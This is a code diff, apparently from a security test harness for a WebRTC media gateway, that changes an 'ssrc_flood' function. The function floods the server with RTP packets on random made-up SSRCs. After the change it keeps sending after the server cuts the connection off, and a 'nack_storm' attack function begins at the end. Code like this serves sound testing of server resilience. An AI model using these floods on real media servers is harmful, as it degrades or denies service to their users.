@@ -44,11 +44,11 @@ async def ssrc_flood(attacker: GatewayBot, count: int, seconds: float, rid: str 
     """RTP on `count` made-up SSRCs, each with the video m-line's mid and a real rid, spread over `seconds`.
 
     Each made-up SSRC's outbound libsrtp stream is freed at once, so the attacker's own cost stays flat and it
-    really sends at the rate asked. Returns how many datagrams left its socket (once the server cuts the
-    connection off, its ICE consent fails and the transport sends nothing more).
+    really sends at the rate asked. Returns how many datagrams left its socket.
     """
     transport = attacker.media.publisher
-    out_before = transport.counters.datagrams_out
+    send = transport.flood_sender()
+    sent = 0
     ext = extension_block(VIDEO_MID, rid)
     descriptor = vp8_descriptor(True, 1, 0, 0, False)
     # Tagged as the attacker's, so the victims' receivers count what gets through as its track, not theirs.
@@ -63,11 +63,9 @@ async def ssrc_flood(attacker: GatewayBot, count: int, seconds: float, rid: str 
         for _ in range(per_tick):
             ssrc = rng.getrandbits(32) or 1
             packet = _HEADER.pack(0x90, VP8_PT, rng.getrandbits(16), rng.getrandbits(32), ssrc) + ext + payload
-            transport.send_rtp(packet)
-            if transport.srtp is not None:
-                transport.srtp.forget_outbound(ssrc)
+            sent += send(packet)  # on and on, even once the server has cut it off
         await asyncio.sleep(max(0.0, start + (tick + 1) * TICK_S - time.monotonic()))
-    return transport.counters.datagrams_out - out_before
+    return sent
 
 
 async def nack_storm(attacker: GatewayBot, seconds: float, per_second: float = 200.0,
